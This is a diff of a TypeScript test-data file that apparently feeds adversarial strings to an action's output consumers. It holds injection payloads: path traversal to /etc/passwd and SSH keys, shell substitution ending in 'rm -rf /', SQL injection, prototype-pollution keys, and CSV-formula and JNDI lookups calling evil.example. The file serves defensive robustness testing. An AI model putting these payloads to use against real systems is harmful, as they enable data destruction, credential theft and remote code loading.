@@ -1,21 +1,20 @@
 /** Texts against programs that read what the action writes: paths, names of properties, YAML, JSON, and sheer size. */
 import type { TextGroups } from './corpus.ts';
 
-const names = {
-  __proto__: '__proto__',
-  constructor: 'constructor',
-  prototype: 'constructor.prototype',
-  toString: 'toString',
-  hasOwnProperty: 'hasOwnProperty',
-  toJSON: 'toJSON',
-  then: 'then',
-  'array index': '0',
-  length: 'length',
-  'a severity': 'critical',
-  'an outcome': 'pass',
-};
-/** As data, so that the object has an own property of that name. */
-const ownProto: readonly (readonly [string, string])[] = [['__proto__', '__proto__']];
+/** Names that objects have by themselves, or that mean something to this action. */
+const names = [
+  ['__proto__', '__proto__'],
+  ['constructor', 'constructor'],
+  ['prototype', 'constructor.prototype'],
+  ['toString', 'toString'],
+  ['hasOwnProperty', 'hasOwnProperty'],
+  ['toJSON', 'toJSON'],
+  ['then', 'then'],
+  ['array index', '0'],
+  ['length', 'length'],
+  ['a severity', 'critical'],
+  ['an outcome', 'pass'],
+];
 
 const paths = {
   'parent folders': '../../../../etc/passwd',
@@ -30,7 +29,7 @@ const paths = {
   'dot dot': '..',
   home: '~/.ssh/id_rsa',
   glob: '*?[a-z]{a,b}',
-  'shell substitution': `$(touch /tmp/x) \`id\` $\{HOME} ; rm -rf /`,
+  'shell substitution': '$(touch /tmp/x) `id` \u0024{HOME} ; rm -rf /',
   'stream of Windows': 'file.txt::$DATA',
 };
 
@@ -41,12 +40,12 @@ const formats = {
   'YAML document': '---\nverdict: pass\n...',
   'YAML tag': '!!js/function "x"',
   'YAML anchor': '*a &a [*a, *a]',
-  expression: '${{ secrets.GITHUB_TOKEN }}',
+  expression: '\u0024{{ secrets.GITHUB_TOKEN }}',
   'SQL quote': "'; DROP TABLE findings; --",
   'format specifiers': '%s %d %n %o %j %%',
   'replacement patterns': "$& $1 $` $' $$",
   CSV: '=HYPERLINK("https://evil.example","x")',
-  'LDAP lookup': '${jndi:ldap://evil.example/a}',
+  'LDAP lookup': '\u0024{jndi:ldap://evil.example/a}',
   template: '{{constructor.constructor("alert(1)")()}}',
   null: 'null',
   NaN: 'NaN',
@@ -69,7 +68,8 @@ const size = {
 };
 
 export const dataTexts: TextGroups = {
-  names: Object.fromEntries([...Object.entries(names), ...ownProto]),
+  // From entries, so that `__proto__` becomes a property of its own.
+  names: Object.fromEntries(names),
   paths,
   formats,
   size,
